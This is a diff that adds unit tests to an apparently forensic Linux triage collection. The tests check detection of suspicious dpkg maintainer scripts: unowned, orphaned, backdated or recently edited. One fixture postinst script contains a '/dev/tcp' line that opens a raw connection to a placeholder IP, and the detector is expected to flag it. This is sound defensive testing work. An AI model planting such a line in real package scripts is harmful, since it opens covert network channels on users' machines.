@@ -14,6 +14,7 @@ import time
 
 import pytest
 from ansible_collections.csirt.linux_triage.plugins.module_utils._core._collection import Limits
+from ansible_collections.csirt.linux_triage.plugins.module_utils._packages import _dpkg_scripts
 from ansible_collections.csirt.linux_triage.plugins.module_utils._persistence import _persistence, _targets
 from ansible_collections.csirt.linux_triage.plugins.module_utils._persistence._named import named
 from ansible_collections.csirt.linux_triage.tests.unit.plugins.module_utils.accounts_helpers import Tree, collected
@@ -90,6 +91,57 @@ def test_file_and_what_it_runs(tree):
     row = got.row("persistence_targets", path="/usr/bin/curl")
     assert (row["names"], row["magic"], row["package"]) == (["curl"], "elf", "pack")
     assert got.row("persistence_targets", path="/opt/gone")["exists"] is False
+
+
+def test_what_no_package_owns(tree):
+    completions = {"name": "completions", "only": "unowned", "paths": ["/usr/share/c/*", "~/.c"]}
+    for path in ("/usr/share/c/owned", "/usr/share/c/planted", "/home/bob/.c"):
+        tree.file(path, b"/opt/x\n")
+    installed(tree, "pack", "/usr/share/c/owned")
+    got = brought(tree, completions)
+    assert set(name for name in got.files if name.startswith(b"[root]")) == {b"[root]/usr/share/c/planted", b"[root]/home/bob/.c"}
+    assert "deviation" not in got.row("persistence_files", path="/usr/share/c/planted")
+
+
+def scripts(tree, lists=("kept", "edited", "touched", "removed", "alone", "talks", "libx:amd64")):
+    """Packages of dpkg with scripts, installed an hour ago."""
+    long_ago = time.time() - 3600
+    for package in lists:
+        installed(tree, package, "/.", "/usr", *(() if package in ("alone", "removed") else ("/usr/share/doc/gone",)))
+    tree.folder("/usr")
+    for name in [package + ".postinst" for package in lists] + ["orphan.prerm", "kept.triggers"]:
+        tree.file("/var/lib/dpkg/info/" + name, b"#!/bin/sh\nset -e\n")
+    tree.file("/var/lib/dpkg/info/talks.postinst", b"#!/bin/sh\nexec 3<>/dev/tcp/192.0.2.1/80\n")
+    tree.file("/var/lib/dpkg/status", b"".join(
+        b"Package: %s\nStatus: %s\nArchitecture: amd64\n\n" % (
+            name.partition(":")[0].encode(), b"deinstall ok config-files" if name == "removed" else b"install ok installed",
+        ) for name in lists))
+    for name in os.listdir(tree.path("/var/lib/dpkg/info/x")[:-2]):
+        os.utime(tree.path(b"/var/lib/dpkg/info/" + name), (long_ago, long_ago))
+    return {"name": "scripts", "only": "deviating", "paths": ["/var/lib/dpkg/info/*.postinst", "/var/lib/dpkg/info/*.prerm", "/var/lib/dpkg/info/*.triggers"]}
+
+
+def test_scripts_of_packages_that_deviate(tree, monkeypatch):
+    artifact = scripts(tree)
+    now = time.time()
+    os.utime(tree.path("/var/lib/dpkg/info/edited.postinst"), (now, now))
+    real = _dpkg_scripts.PackageScripts._stat
+
+    def stat_of(self, path):
+        """One script whose times were set back: only its time of change tells."""
+        status = real(self, path)
+        if path.endswith(b"/touched.postinst"):
+            return type("Status", (), {"st_ctime": status.st_ctime + 3600, "st_mtime": status.st_mtime})
+        return status
+
+    monkeypatch.setattr(_dpkg_scripts.PackageScripts, "_stat", stat_of)
+    got = brought(tree, artifact)
+    found = dict((os.path.basename(row["path"]), row.get("deviation")) for row in got.tables["persistence_files"])
+    assert found == {
+        "edited.postinst": "younger", "touched.postinst": "younger", "orphan.prerm": "orphan", "alone.postinst": "nothing_else",
+        "talks.postinst": "reaches_out",
+    }
+    assert b"[root]/var/lib/dpkg/info/alone.postinst" in got.files
 
 
 def test_only_small_programs_without_owner_come_home(tree):
